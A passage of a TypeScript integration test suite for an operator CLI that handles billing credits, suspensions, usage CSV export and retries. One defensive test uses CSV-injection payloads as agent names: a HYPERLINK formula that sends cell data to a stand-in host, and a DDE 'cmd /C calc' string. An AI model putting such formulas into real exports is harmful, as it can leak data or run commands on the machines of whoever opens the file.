// The ops CLI against a real database (embedded PGlite behind its wire server and WebSocket relay,
// migrated and seeded): each command in table and --json form, the audit rows, the balance ledger.
import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir, userInfo } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import fc from 'fast-check'
import postgres from 'postgres'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CatalogFileError } from '../../scripts/catalog.ts'
import { type EmbeddedDatabase, startLocalDatabase } from '../../scripts/local-db.ts'
import { applyMigrations } from '../../scripts/migrations.ts'
import { EXIT, runOps } from '../../scripts/ops/cli.ts'
import { DEMO_CATALOG, seedFromFile } from '../../scripts/seed.ts'
import { addPrepaidCredit } from '../../src/billing/rules/prepaid-credit.ts'
import { ingestUsageBatch } from '../../src/billing/rules/usage-ingest.ts'
import { processStripeEvent } from '../../src/billing/stripe/events.ts'
import { topUpMetadata } from '../../src/billing/stripe/top-up.ts'
import { createDb, type DbHandle } from '../../src/db/client.ts'
import { MAX_PROCESSING_ATTEMPTS, STALE_PROCESSING_MINUTES } from '../../src/knowledge/limits.ts'
import { deliverPending } from '../../src/notifications/outbox.ts'
import type { OutgoingEmail } from '../../src/notifications/sender.ts'
import { creditCustomer, findCustomer } from '../../src/ops/actions.ts'
import { createFernet } from '../../src/platform/fernet.ts'
import { createLogger } from '../../src/platform/logger.ts'

const KEY = 'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4='
const SECRET_TOKEN = 'ya29.known-integration-token-DO-NOT-PRINT'
let local: EmbeddedDatabase
let sql: postgres.Sql
let handle: DbHandle
let ciphertext: string
let env: Record<string, string>
let catalogDir: string

beforeAll(async () => {
  local = await startLocalDatabase()
  await applyMigrations(local.databaseUrl)
  await seedFromFile(local.databaseUrl, undefined, { encryptionKeys: [KEY] })
  sql = postgres(local.databaseUrl, { max: 4, onnotice: () => {} })
  env = { DATABASE_URL: local.databaseUrl, LOCAL_WS_PROXY: local.wsProxy, OPERATOR: 'ops-test', ENCRYPTION_KEY: KEY }
  catalogDir = await mkdtemp(join(tmpdir(), 'ops-catalog-'))
  handle = createDb({ DATABASE_URL: local.databaseUrl, LOCAL_WS_PROXY: local.wsProxy })
  ciphertext = await createFernet(KEY).encrypt(SECRET_TOKEN)
})
afterAll(async () => {
  await handle?.close()
  await sql?.end()
  await local?.stop()
  if (catalogDir) await rm(catalogDir, { recursive: true, force: true })
})

const outputs: string[] = []

async function opsIn(environment: Record<string, string>, ...argv: string[]) {
  const out: string[] = []
  const err: string[] = []
  const code = await runOps(argv, { env: environment, out: (t) => out.push(t), err: (t) => err.push(t) })
  const result = { code, stdout: out.join('\n'), stderr: err.join('\n') }
  outputs.push(result.stdout, result.stderr)
  return result
}
const ops = (...argv: string[]) => opsIn(env, ...argv)
const opsJson = async (...argv: string[]) => {
  const result = await ops(...argv, '--json')
  expect(result.stderr).toBe('')
  expect(result.code).toBe(0)
  return JSON.parse(result.stdout)
}
/** A command that succeeds and prints exactly `text` (its table form). */
const expectSays = async (text: string, ...argv: string[]) =>
  expect(await ops(...argv)).toEqual({ code: EXIT.ok, stdout: text, stderr: '' })

/** The rows of a `table()` printout, keyed by its header; each cell cut where its header's name starts. */
function tableRows(text: string): Record<string, string>[] {
  const [header = '', , ...rows] = text.split('\n')
  if (header === '(none)') return []
  const columns = [...header.matchAll(/\S+/g)].map((m) => ({ name: m[0], start: m.index }))
  return rows.map((row) =>
    Object.fromEntries(columns.map(({ name, start }, i) => [name, row.slice(start, columns[i + 1]?.start).trim()])),
  )
}
/** The lines under `title` in `ops customer`'s printout, up to the blank line that ends the section. */
function section(text: string, title: string): string {
  const lines = text.split('\n')
  const body = lines.slice(lines.indexOf(title) + 1)
  const end = body.indexOf('')
  return body.slice(0, end === -1 ? undefined : end).join('\n')
}
const ISO_TIME = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/

/** `node scripts/ops.ts ...` in a child process, as an operator runs it. */
const run = (args: string[]) =>
  promisify(execFile)(`${process.cwd()}/node_modules/.bin/node`, ['scripts/ops.ts', ...args], {
    env: { ...process.env, ...env },
  }).then(
    (r) => ({ code: 0, stdout: r.stdout, stderr: r.stderr }),
    (e) => ({ code: e.code as number, stdout: e.stdout as string, stderr: e.stderr as string }),
  )

/** A customer whose subscription has `subscription` status (none when null), on a new plan with `limits`. */
async function customerOnPlan({
  email = `ops-${crypto.randomUUID().slice(0, 8)}@example.com`,
  name = 'Ops Co',
  subscription = 'active' as string | null,
  limits = {} as Record<string, number>,
  graceEnded = false,
} = {}) {
  const graceEndsAt = graceEnded ? new Date(Date.now() - 86_400_000) : null
  const [customer] = await sql<{ id: string }[]>`
    INSERT INTO customers (name, slug, email, stripe_customer_id, grace_period_ends_at)
    VALUES (${name}, ${`ops-${crypto.randomUUID()}`}, ${email}, ${`cus_${crypto.randomUUID().slice(0, 12)}`}, ${graceEndsAt})
    RETURNING id`
  const customerId = customer?.id as string
  if (subscription !== null) {
    const [plan] = await sql<{ id: string }[]>`
      INSERT INTO plans (name, slug, limits) VALUES ('Tiny', ${`tiny-${crypto.randomUUID()}`}, ${sql.json(limits)}) RETURNING id`
    await sql`INSERT INTO subscriptions (customer_id, plan_id, status, current_period_start, current_period_end)
              VALUES (${customerId}, ${plan?.id as string}, ${subscription}, now() - interval '10 days', now() + interval '20 days')`
  }
  return { customerId, email }
}

async function agentOf(customerId: string, name: string, disabledReason: string | null = null) {
  const [agent] = await sql<{ id: string }[]>`
    INSERT INTO agent_instances (customer_id, agent_type_id, name, is_active, disabled_reason, api_key_prefix, api_key_hash)
    SELECT ${customerId}, id, ${name}, ${disabledReason === null}, ${disabledReason},
           ${`efk_${crypto.randomUUID().replaceAll('-', '').slice(0, 12)}`}, 'x'
    FROM agent_types WHERE slug = 'customer-support'
    RETURNING id`
  return agent?.id as string
}

/** Usage of an agent in its customer's current period, or in the period before it. */
async function recordUsage(
  customerId: string,
  agentId: string,
  { messages, inputTokens, outputTokens }: { messages: number; inputTokens: number; outputTokens: number },
  period: 'current' | 'previous' = 'current',
) {
  const shift = period === 'current' ? 0 : 30
  await sql`
    INSERT INTO usage_records (customer_id, agent_instance_id, period_start, period_end, messages, input_tokens, output_tokens)
    SELECT ${customerId}, ${agentId}, current_period_start - make_interval(days => ${shift}),
           current_period_end - make_interval(days => ${shift}), ${messages}, ${inputTokens}, ${outputTokens}
    FROM subscriptions WHERE customer_id = ${customerId}`
}

/** A customer on a 100-message plan who used 150, balance 0, grace over: billing switched an agent off. */
/** RFC 4180 rows (quoted cells, doubled quotes, separators and line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  const endCell = () => {
    rows.at(-1)?.push(cell)
    cell = ''
  }
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"'
      i++
    } else if (ch === '"') quoted = !quoted
    else if (!quoted && ch === ',') endCell()
    else if (!quoted && ch === '\n') {
      endCell()
      rows.push([])
    } else cell += ch
  }
  endCell()
  return rows
}

async function lapsedCustomer(email = `lapsed-${crypto.randomUUID().slice(0, 8)}@example.com`) {
  const { customerId } = await customerOnPlan({ email, name: 'Lapsed Co', limits: { messages: 100 }, graceEnded: true })
  const billingOffId = await agentOf(customerId, 'Helpdesk', 'grace_expired')
  await agentOf(customerId, 'Old bot', 'manual')
  await recordUsage(customerId, billingOffId, { messages: 150, inputTokens: 1000, outputTokens: 2000 })
  const [provider] = await sql<{ id: string }[]>`SELECT id FROM integration_providers WHERE slug = 'demo-docs'`
  await sql`
    INSERT INTO integrations (customer_id, provider_id, account_id, account_name, access_token, refresh_token, token_expires_at)
    VALUES (${customerId}, ${provider?.id as string}, 'acct-1', 'Docs workspace', ${ciphertext}, ${ciphertext}, now() + interval '1 hour')`
  return { customerId, email, billingOffId }
}

/** A knowledge document in `status`; a failed one has used up its attempts, a processing one started just now. */
async function knowledgeDocument(
  customerId: string,
  status: 'error' | 'indexed' | 'processing',
  title = 'Handbook.pdf',
) {
  const [kb] = await sql<{ id: string }[]>`
    INSERT INTO knowledge_bases (customer_id, name) VALUES (${customerId}, 'Docs') RETURNING id`
  const [doc] = await sql<{ id: string }[]>`
    INSERT INTO knowledge_documents
      (knowledge_base_id, customer_id, title, source_type, status, error_message, unfinished_attempts, processing_started_at)
    VALUES (${kb?.id as string}, ${customerId}, ${title}, 'text', ${status},
            ${status === 'error' ? 'extraction failed' : null}, ${status === 'error' ? 3 : 0},
            ${status === 'processing' ? new Date() : null})
    RETURNING id`
  return doc?.id as string
}

async function notification(
  customerId: string,
  { kind = 'grace_started', status = 'failed', subject = 'Over your limit', body = 'secret link', minutesAgo = 0 } = {},
) {
  const [row] = await sql<{ id: string }[]>`
    INSERT INTO notifications (customer_id, kind, recipient, subject, body, dedupe_key, status, created_at)
    SELECT ${customerId}, ${kind}, email, ${subject}, ${body}, ${crypto.randomUUID()}, ${status},
           now() - make_interval(mins => ${minutesAgo})
    FROM customers WHERE id = ${customerId}
    RETURNING id`
  return row?.id as string
}

describe('ops: a support case end to end', () => {
  it('finds the customer, shows why the agents are off, credits, and the agent is back on', async () => {
    const { customerId, email, billingOffId } = await lapsedCustomer()

    const list = await ops('customers', 'lapsed')
    expect(list.code).toBe(EXIT.ok)
    expect(list.stdout).toMatch(/^email\s+company\s+plan\s+status\s+usage\s+balance\s+agents\s+id/)
    expect(list.stdout).toContain(email)
    const listed = await opsJson('customers', email)
    expect(listed.customers).toHaveLength(1)
    expect(listed.customers[0]).toMatchObject({
      id: customerId,
      status: 'grace',
      can_respond: false,
      reason_code: 'over_limit',
      balance_cents: 0,
      agents: 2,
      agents_on: 0,
    })

    const detail = await opsJson('customer', email)
    expect(detail.agents.find((a: { id: string }) => a.id === billingOffId)).toMatchObject({
      state: 'off',
      why_off: expect.stringContaining('grace_expired'),
    })
    expect(detail.integrations).toEqual([
      { provider: 'demo-docs', account: 'Docs workspace', status: 'active', expires_at: expect.any(String) },
    ])
    const detailTable = await ops('customer', customerId)
    expect(detailTable.stdout).toContain('agents can respond: no (over_limit)')
    expect(detailTable.stdout).toMatch(/Helpdesk\s+customer-support\s+off\s+grace_expired/)

    const credited = await opsJson('credit', email, '12.50', '--reason', 'goodwill, ticket 4711')
    expect(credited).toMatchObject({ amount_cents: 1250, balance_cents: 1250, agents_switched_on: [billingOffId] })

    const after = await opsJson('customer', email)
    expect(after.customer).toMatchObject({ can_respond: true, balance_cents: 1250 })
    expect(after.agents.find((a: { id: string }) => a.id === billingOffId)).toMatchObject({ state: 'on', why_off: '' })
    expect(after.ledger).toEqual([
      expect.objectContaining({ kind: 'operator_credit', amount_cents: 1250, balance_after_cents: 1250 }),
    ])
    const [action] = await sql`SELECT * FROM operator_actions WHERE customer_id = ${customerId}`
    expect(action).toMatchObject({
      operator: 'ops-test',
      action: 'credit',
      target: email,
      reason: 'goodwill, ticket 4711',
      details: { amount_cents: 1250 },
    })
    const [entry] = await sql`SELECT * FROM balance_ledger WHERE customer_id = ${customerId}`
    expect(entry?.operator_action_id).toBe(action?.id)
  })
})

/** A paid top-up's checkout.session.completed, applied by the webhook's own processing (no Stripe call). */
async function deliverTopUp(customerId: string, stripeCustomerId: string) {
  const event = {
    id: `evt_${crypto.randomUUID().replaceAll('-', '')}`,
    object: 'event',
    type: 'checkout.session.completed',
    created: Math.floor(Date.now() / 1000),
    data: {
      object: {
        id: `cs_${crypto.randomUUID().replaceAll('-', '')}`,
        object: 'checkout.session',
        mode: 'payment',
        customer: stripeCustomerId,
        metadata: topUpMetadata(customerId, 1000),
        payment_status: 'paid',
        amount_total: 1000,
        currency: 'usd',
      },
    },
  }
  const stripe = () => {
    throw new Error('a top-up needs nothing from Stripe')
  }
  expect(await processStripeEvent({ db: handle.db, stripe }, event as never)).toBe('processed')
  return event.id
}

describe('ops customer: Stripe events', () => {
  it("lists only the events applied to that customer, never another customer's or unattributed ones", async () => {
    const a = await lapsedCustomer()
    const b = await lapsedCustomer()
    const stripeIdOf = async (id: string) =>
      (await sql<{ s: string }[]>`SELECT stripe_customer_id AS s FROM customers WHERE id = ${id}`)[0]?.s as string
    const eventOfA = await deliverTopUp(a.customerId, await stripeIdOf(a.customerId))
    const eventOfB = await deliverTopUp(b.customerId, await stripeIdOf(b.customerId))
    const stripe = () => {
      throw new Error('not needed')
    }
    const unattributed = { id: `evt_${crypto.randomUUID()}`, type: 'charge.refunded', created: 1, data: { object: {} } }
    expect(await processStripeEvent({ db: handle.db, stripe }, unattributed as never)).toBe('ignored')

    const [row] = await sql`SELECT customer_id, status FROM stripe_events WHERE id = ${eventOfA}`
    expect(row).toEqual({ customer_id: a.customerId, status: 'processed' })
    const detailA = await opsJson('customer', a.email)
    expect(detailA.stripe_events).toEqual([
      { id: eventOfA, type: 'checkout.session.completed', status: 'processed', at: expect.any(String) },
    ])
    const detailB = await opsJson('customer', b.email)
    expect(detailB.stripe_events.map((e: { id: string }) => e.id)).toEqual([eventOfB])
    const tableB = await ops('customer', b.email)
    expect(tableB.stdout).toContain(eventOfB)
    expect(tableB.stdout).not.toContain(eventOfA)
    expect(tableB.stdout).not.toContain(unattributed.id)
  })
})

describe('ops: suspend and resume', () => {
  it('suspends with a reason (audit row in the same change), refuses without one, resume runs the re-enable rule', async () => {
    const { customerId, email, billingOffId } = await lapsedCustomer()
    const noReason = await ops('suspend', email)
    expect(noReason.code).toBe(EXIT.usage)
    expect(noReason.stderr).toContain('A reason is required')
    expect((await sql`SELECT is_active FROM customers WHERE id = ${customerId}`)[0]?.is_active).toBe(true)

    const suspended = await ops('suspend', email, '--reason', 'chargeback')
    expect(suspended).toMatchObject({ code: 0, stdout: `Suspended ${email}.` })
    const detail = await opsJson('customer', email)
    expect(detail.customer).toMatchObject({ status: 'suspended', reason_code: 'customer_suspended' })

    await sql`UPDATE extra_usage_balances SET balance_cents = 0 WHERE customer_id = ${customerId}`
    await sql`UPDATE plans SET limits = '{"messages":1000}' WHERE id = (SELECT plan_id FROM subscriptions WHERE customer_id = ${customerId})`
    const resumed = await opsJson('resume', customerId, '--reason', 'paid')
    expect(resumed).toMatchObject({ suspended: false, agents_switched_on: [billingOffId] })
    expect((await sql`SELECT is_active FROM customers WHERE id = ${customerId}`)[0]?.is_active).toBe(true)

    const log = await opsJson('log', '--customer', email)
    expect(log.actions.map((a: { action: string }) => a.action)).toEqual(['resume', 'suspend'])
    expect(log.actions[1]).toMatchObject({ operator: 'ops-test', reason: 'chargeback', target: email })
    const logTable = await ops('log', '--customer', email)
    expect(logTable.stdout).toMatch(/^at\s+operator\s+action\s+target\s+reason\s+id/)
    expect(logTable.stdout).toContain('chargeback')
  })
})

describe('ops: telling the hub', () => {
  it('after suspend, resume and credit, asks the hub to reload the customer at the edge, with the service secret', async () => {
    const calls: Array<{ method?: string; url?: string; authorization?: string }> = []
    let status = 200
    const hub = createServer((req, res) => {
      calls.push({ method: req.method, url: req.url, authorization: req.headers.authorization })
      res.writeHead(status, { 'Content-Type': 'application/json' }).end('{}')
    })
    await new Promise<void>((resolve) => hub.listen(0, '127.0.0.1', resolve))
    const { port } = hub.address() as AddressInfo
    try {
      const told = {
        ...env,
        HUB_URL: `http://127.0.0.1:${port}/`,
        HUB_SERVICE_SECRET: 'first-secret-0123456789abcdef0123456789, second',
      }
      const { customerId, email } = await lapsedCustomer()
      expect(await opsIn(told, 'suspend', email, '--reason', 'chargeback')).toMatchObject({ code: 0, stderr: '' })
      expect(await opsIn(told, 'resume', email, '--reason', 'paid')).toMatchObject({ code: 0, stderr: '' })
      expect(await opsIn(told, 'credit', email, '5', '--reason', 'goodwill')).toMatchObject({ code: 0, stderr: '' })
      expect(calls).toEqual(
        Array(3).fill({
          method: 'POST',
          url: `/api/internal/customers/${customerId}/state/refresh`,
          authorization: 'Bearer first-secret-0123456789abcdef0123456789',
        }),
      )
      status = 503
      const refused = await opsIn(told, 'suspend', email, '--reason', 'again')
      expect(refused.code).toBe(EXIT.ok) // the change committed; the edge finds it anyway
      expect(refused.stderr).toBe('The hub was not told (HTTP 503); the edge picks the change up within 10 s anyway.')
      expect(refused.stderr).not.toContain('first-secret')
    } finally {
      hub.close()
    }
  })
})

describe('ops: errors and exit codes', () => {
  it('unknown customer, bad amounts, bad usage, help', async () => {
    const unknown = await ops('customer', 'nobody@example.com')
    expect(unknown).toMatchObject({ code: EXIT.notFound, stdout: '' })
    expect(unknown.stderr).toContain('No customer matches "nobody@example.com"')
    const { email } = await lapsedCustomer()
    for (const amount of ['0', '-5', '12.345', 'ten', '1e3', '']) {
      const bad = await ops('credit', email, amount, '--reason', 'x')
      expect(bad.code).toBe(EXIT.usage)
    }
    expect((await ops('credit', email, '12.345', '--reason', 'x')).stderr).toContain('is not an amount in US dollars')
    expect(
      await sql`SELECT 1 FROM balance_ledger l JOIN customers c ON c.id = l.customer_id WHERE c.email = ${email}`,
    ).toHaveLength(0)
    expect((await ops('frobnicate')).code).toBe(EXIT.usage)
    expect((await ops('customers', '--bogus')).code).toBe(EXIT.usage)
    const help = await ops('--help')
    expect(help).toMatchObject({ code: 0 })
    expect(help.stdout).toContain('credit <customer> <dollars>')
    expect((await ops('credit', '--help')).stdout).toContain('dollars: 20, 12.50')
    expect((await ops('usage', 'export', '--period', '2026-13')).code).toBe(EXIT.usage)
  })

  it('runs as `node scripts/ops.ts` (the Worker modules load in Node) with usable exit codes', async () => {
    const listed = await run(['customers', '--json'])
    expect(listed.stderr).toBe('')
    expect(listed.code).toBe(0)
    expect(JSON.parse(listed.stdout).customers.length).toBeGreaterThan(0)
    const missing = await run(['customer', 'missing@example.com'])
    expect(missing.code).toBe(EXIT.notFound)
    outputs.push(listed.stdout, listed.stderr, missing.stdout, missing.stderr)
  })
})

describe('ops: usage export, documents, notifications', () => {
  it('exports usage as CSV and JSON, with the overage charged per period', async () => {
    const { customerId, email } = await lapsedCustomer()
    const [period] = await sql<{ month: string }[]>`
      SELECT to_char(current_period_start AT TIME ZONE 'UTC', 'YYYY-MM') AS month FROM subscriptions WHERE customer_id = ${customerId}`
    const csv = await ops('usage', 'export', '--customer', email, '--period', period?.month as string)
    expect(csv.code).toBe(0)
    const lines = csv.stdout.split('\n')
    expect(lines[0]).toBe(
      'customer_email,customer_id,agent,agent_id,period_start,period_end,messages,input_tokens,output_tokens,customer_overage_charged_cents',
    )
    expect(lines).toHaveLength(2)
    expect(lines[1]).toMatch(new RegExp(`^${email},${customerId},Helpdesk,.*,150,1000,2000,0$`))
    const json = await opsJson('usage', 'export', '--customer', email)
    expect(json.usage).toEqual([expect.objectContaining({ messages: 150, input_tokens: 1000, output_tokens: 2000 })])
  })

  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection): a leading quote, then CSV quoting', async () => {
    const { customerId, email } = await customerOnPlan()
    const hostile = [
      '=HYPERLINK("https://e.example/?"&A3,"Open")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
      'Plain, "quoted" name',
    ]
    for (const name of hostile)
      await recordUsage(customerId, await agentOf(customerId, name), { messages: 1, inputTokens: 2, outputTokens: 3 })
    const exported = await ops('usage', 'export', '--customer', email)
    expect(exported.code).toBe(0)
    const rows = parseCsv(exported.stdout)
    const agentColumn = rows[0]!.indexOf('agent')
    const agents = rows.slice(1).map((row) => row[agentColumn])
    expect(agents.sort()).toEqual([...hostile.slice(0, 6).map((name) => `'${name}`), 'Plain, "quoted" name'].sort())
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(exported.stdout).toContain(`,"'=HYPERLINK(""https://e.example/?""&A3,""Open"")",`)
    // Numbers stay numbers; the JSON form is data, not a spreadsheet, and keeps the names as they are.
    expect(rows[1]!.slice(-4)).toEqual(['1', '2', '3', '0'])
    const json = await opsJson('usage', 'export', '--customer', email)
    expect(json.usage.map((u: { agent: string }) => u.agent).sort()).toEqual([...hostile].sort())
  })

  it('lists failed documents and hands them to the stuck-document sweep; failed notifications back to the outbox', async () => {
    const { customerId, email } = await lapsedCustomer()
    const docId = await knowledgeDocument(customerId, 'error')
    const failed = await opsJson('documents', 'failed')
    expect(failed.documents).toContainEqual(
      expect.objectContaining({
        id: docId,
        customer_email: email,
        title: 'Handbook.pdf',
        error: 'extraction failed',
      }),
    )
    expect((await ops('documents', 'failed')).stdout).toMatch(/^id\s+customer_email\s+title\s+error\s+failed_at/)
    expect((await ops('documents', 'retry')).code).toBe(EXIT.usage)
    expect((await ops('documents', 'retry', crypto.randomUUID())).code).toBe(EXIT.notFound)
    const retried = await opsJson('documents', 'retry', docId)
    expect(retried.retried).toEqual([docId])
    const [row] =
      await sql`SELECT status, processing_started_at, unfinished_attempts FROM knowledge_documents WHERE id = ${docId}`
    // What the sweep looks for: a `processing` run started long ago, with the attempt budget reset.
    expect(row).toMatchObject({ status: 'processing', unfinished_attempts: 0 })
    expect(new Date(row?.processing_started_at).getTime()).toBe(0)

    const noteId = await notification(customerId)
    const failedNotes = await opsJson('notifications', 'failed')
    expect(failedNotes.notifications).toContainEqual(
      expect.objectContaining({ recipient: email, subject: 'Over your limit' }),
    )
    expect(JSON.stringify(failedNotes)).not.toContain('secret link')
    const retriedNotes = await opsJson('notifications', 'retry')
    expect(retriedNotes.retried).toContain(noteId)
    expect(await sql`SELECT 1 FROM notifications WHERE status = 'failed'`).toHaveLength(0)
    const actions = await sql`
      SELECT action FROM operator_actions
      WHERE (action = 'documents.retry' AND target = ${docId})
         OR (action = 'notifications.retry' AND details->'notifications' @> ${sql.json([noteId])})`
    expect(actions.map((a) => a.action).sort()).toEqual(['documents.retry', 'notifications.retry'])
  })
})

describe('ops: the table form of each change', () => {
  const agentIsActive = async (agentId: string) =>
    (await sql`SELECT is_active FROM agent_instances WHERE id = ${agentId}`)[0]?.is_active

  it('credit says the amount, the balance after it and how many agents the re-enable rule switched on', async () => {
    const { email, billingOffId } = await lapsedCustomer()
    await expectSays(
      `Credited $20.00 to ${email}; balance $20.00; agents switched back on: 1.`,
      ...['credit', email, '$20', '--reason', 'goodwill'],
    )
    expect(await agentIsActive(billingOffId)).toBe(true)
    await expectSays(
      `Credited $0.05 to ${email}; balance $20.05; agents switched back on: 0.`,
      ...['credit', email, '0.05', '--reason', 'rounding'],
    )
  })

  it('suspend --json gives the audit row and whether the customer was active; again, it says so', async () => {
    const { customerId, email } = await lapsedCustomer()
    const first = await opsJson('suspend', email, '--reason', 'chargeback')
    const second = await opsJson('suspend', customerId, '--reason', 'chargeback, second notice')
    const actions = await sql`
      SELECT id, details FROM operator_actions WHERE customer_id = ${customerId} ORDER BY created_at`
    expect(first).toEqual({ customer_id: customerId, suspended: true, action_id: actions[0]?.id, was_active: true })
    expect(second).toEqual({ customer_id: customerId, suspended: true, action_id: actions[1]?.id, was_active: false })
    expect(actions.map((a) => a.details)).toEqual([{ was_active: true }, { was_active: false }])
    await expectSays(`${email} was already suspended (recorded again).`, 'suspend', email, '--reason', 'third')
  })

  it('resume says how many agents the billing rule switched back on: none while over the limit', async () => {
    const { customerId, email, billingOffId } = await lapsedCustomer()
    await ops('suspend', email, '--reason', 'chargeback')
    await expectSays(`Resumed ${email}; agents switched back on by the billing rule: 0.`, 'resume', email)
    expect(await agentIsActive(billingOffId)).toBe(false)
    await sql`UPDATE plans SET limits = '{"messages":1000}' WHERE id = (SELECT plan_id FROM subscriptions WHERE customer_id = ${customerId})`
    await expectSays(`Resumed ${email}; agents switched back on by the billing rule: 1.`, 'resume', email)
    expect(await agentIsActive(billingOffId)).toBe(true)
  })

  it('documents retry <id> says how many went to the sweep; the audit row names the one customer', async () => {
    const { customerId } = await lapsedCustomer()
    const docId = await knowledgeDocument(customerId, 'error')
    await expectSays(
      '1 document(s) handed to the stuck-document sweep; they are queued again within 15 minutes.',
      ...['documents', 'retry', docId],
    )
    const [action] = await sql`
      SELECT customer_id, target, details FROM operator_actions WHERE action = 'documents.retry' AND target = ${docId}`
    expect(action).toEqual({ customer_id: customerId, target: docId, details: { documents: [docId] } })
    const again = await ops('documents', 'retry', docId)
    expect(again).toMatchObject({ code: EXIT.notFound, stdout: '' })
    expect(again.stderr).toBe(`Not a failed document: ${docId} (see "ops documents failed").`)
  })

  it('documents retry is the one reset of a document failed on an extraction limit (its customer cannot re-index it)', async () => {
    const { customerId } = await lapsedCustomer()
    const docId = await knowledgeDocument(customerId, 'error')
    await sql`UPDATE knowledge_documents SET failed_on_limits = true WHERE id = ${docId}`
    expect((await opsJson('documents', 'retry', docId)).retried).toEqual([docId])
    const [row] =
      await sql`SELECT status, unfinished_attempts, failed_on_limits FROM knowledge_documents WHERE id = ${docId}`
    expect(row).toEqual({ status: 'processing', unfinished_attempts: 0, failed_on_limits: false })
  })

  it('notifications failed lists them without their bodies; retry puts them back in the outbox, whose delivery sends them', async () => {
    const { customerId, email } = await lapsedCustomer()
    const noteId = await notification(customerId, { subject: 'Your agents are paused', body: 'private link' })
    const listing = await ops('notifications', 'failed')
    expect(listing.stdout).toMatch(/^id\s+kind\s+recipient\s+subject\s+created_at\n/)
    expect(listing.stdout).not.toContain('private link')
    const failed = tableRows(listing.stdout)
    expect(failed).toContainEqual({
      id: noteId,
      kind: 'grace_started',
      recipient: email,
      subject: 'Your agents are paused',
      created_at: expect.stringMatching(ISO_TIME),
    })
    await expectSays(
      `${failed.length} notification(s) back in the outbox; the next job run delivers them.`,
      ...['notifications', 'retry'],
    )
    await expectSays('No failed notifications.', 'notifications', 'retry')

    const sent: OutgoingEmail[] = []
    const sender = {
      name: 'recording',
      send: async (message: OutgoingEmail) => {
        sent.push(message)
        return { providerMessageId: null }
      },
    }
    const delivered = await deliverPending(handle.db, sender, createLogger({}, 'silent'), { ids: [noteId] })
    expect(delivered).toEqual({ sent: 1, failed: 0 })
    expect(sent).toEqual([{ to: email, subject: 'Your agents are paused', text: 'private link' }])
  })
})

describe('ops documents retry --all-failed', () => {
  it("hands every failed document, whichever customer's, to the stuck-document sweep and leaves the rest alone", async () => {
    const a = await lapsedCustomer()
    const b = await lapsedCustomer()
    const failedOfA = [await knowledgeDocument(a.customerId, 'error'), await knowledgeDocument(a.customerId, 'error')]
    const failedOfB = await knowledgeDocument(b.customerId, 'error')
    const indexed = await knowledgeDocument(a.customerId, 'indexed')
    const running = await knowledgeDocument(b.customerId, 'processing')
    const failedBefore = (await sql`SELECT id FROM knowledge_documents WHERE status = 'error'`).map((r) => r.id)
    expect(failedBefore).toEqual(expect.arrayContaining([...failedOfA, failedOfB]))
    expect((await ops('documents', 'retry', '--all-failed', failedOfB)).code).toBe(EXIT.usage)

    const { retried } = await opsJson('documents', 'retry', '--all-failed')
    expect([...retried].sort()).toEqual([...failedBefore].sort())
    const rows = await sql`
      SELECT id, status, processing_started_at, unfinished_attempts FROM knowledge_documents WHERE id IN ${sql(retried)}`
    // What the sweep requeues: a `processing` run started over STALE_PROCESSING_MINUTES ago, attempts left.
    const staleBefore = Date.now() - STALE_PROCESSING_MINUTES * 60_000
    for (const row of rows) {
      expect(row).toMatchObject({ status: 'processing', unfinished_attempts: 0 })
      expect(new Date(row.processing_started_at).getTime()).toBeLessThan(staleBefore)
      expect(row.unfinished_attempts).toBeLessThan(MAX_PROCESSING_ATTEMPTS)
    }
    expect(rows).toHaveLength(retried.length)
    const untouched = await sql`
      SELECT id, status, processing_started_at FROM knowledge_documents WHERE id IN (${indexed}, ${running}) ORDER BY status`
    expect(untouched.map((r) => r.status)).toEqual(['indexed', 'processing'])
    expect(new Date(untouched[1]?.processing_started_at).getTime()).toBeGreaterThan(staleBefore)

    const [action] = await sql`
      SELECT customer_id, target, details FROM operator_actions
      WHERE action = 'documents.retry' AND target = 'all failed documents'`
    expect(action).toEqual({ customer_id: null, target: 'all failed documents', details: { documents: retried } })
    await expectSays('No failed documents.', 'documents', 'retry', '--all-failed')
    expect(await sql`SELECT 1 FROM operator_actions WHERE target = 'all failed documents'`).toHaveLength(1)
  })

  it('refuses a --customer it would ignore, rather than retry every customer’s documents', async () => {
    const { customerId, email } = await lapsedCustomer()
    const docId = await knowledgeDocument(customerId, 'error')
    const scoped = await ops('documents', 'retry', '--all-failed', '--customer', email)
    expect(scoped.code).toBe(EXIT.usage)
    expect(scoped.stderr).toContain('ops documents takes no --customer.')
    expect((await ops('notifications', 'retry', '--customer', email)).code).toBe(EXIT.usage)
    expect((await sql`SELECT status FROM knowledge_documents WHERE id = ${docId}`)[0]?.status).toBe('error')
  })
})

describe('ops: a customer it cannot single out', () => {
  const sharedEmail = `shared-${crypto.randomUUID().slice(0, 8)}@example.com`
  beforeAll(async () => {
    await customerOnPlan({ email: sharedEmail })
    await customerOnPlan({ email: sharedEmail.toUpperCase() })
  })
  describe.each([
    {
      given: 'no customer matches',
      who: 'nobody@example.com',
      exit: EXIT.notFound,
      says: 'No customer matches "nobody@example.com" (id, email or Stripe customer id).',
    },
    {
      given: 'two customers have the email (in any case)',
      who: sharedEmail,
      exit: EXIT.conflict,
      says: `"${sharedEmail}" matches more than one customer; use the customer id.`,
    },
  ])('when $given', ({ who, exit, says }) => {
    it.each([
      ['customer', who],
      ['suspend', who, '--reason', 'fraud'],
      ['resume', who],
      ['credit', who, '5', '--reason', 'goodwill'],
      ['usage', 'export', '--customer', who],
      ['log', '--customer', who],
    ])(`ops %s exits ${exit}, says why and records nothing`, async (...argv) => {
      const [before] = await sql`SELECT count(*)::int AS n FROM operator_actions`
      expect(await ops(...argv)).toEqual({ code: exit, stdout: '', stderr: says })
